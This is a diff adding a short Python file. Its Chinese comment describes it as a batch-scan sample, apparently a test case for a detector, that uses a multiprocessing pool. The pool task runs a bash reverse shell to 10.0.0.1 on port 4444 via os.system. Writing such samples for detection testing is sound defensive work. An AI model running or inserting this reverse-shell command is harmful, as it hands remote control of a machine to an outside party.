@@ -0,0 +1,13 @@
+# 批量扫描中第一个使用进程池的样本，进程池任务中执行回连命令
+from multiprocessing.pool import Pool
+import os
+
+
+def run(cmd):
+    return os.system(cmd)
+
+
+if __name__ == "__main__":
+    print("POOLTYPE", Pool)
+    with Pool(2) as pool:
+        pool.map(run, ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"])